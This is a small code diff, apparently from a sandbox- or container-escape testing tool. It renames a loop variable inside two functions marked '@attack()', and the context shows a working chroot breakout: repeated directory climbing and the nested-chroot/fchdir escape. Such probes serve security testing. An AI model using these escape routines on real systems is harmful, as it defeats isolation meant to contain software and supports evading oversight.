@@ -29,7 +29,7 @@ def _look_for_the_host(facts: Facts) -> str:
 
 @attack()
 def climb_up(facts: Facts) -> str:
-    for _ in range(64):
+    for _unused in range(64):
         os.chdir("..")
     return _look_for_the_host(facts)
 
@@ -41,7 +41,7 @@ def chroot_and_climb_up(facts: Facts) -> str:
     os.makedirs("/tmp/escape/chroot", exist_ok=True)
     os.chroot("/tmp/escape/chroot")
     os.fchdir(outside)
-    for _ in range(64):
+    for _unused in range(64):
         os.chdir("..")
     os.chroot(".")
     return _look_for_the_host(facts)
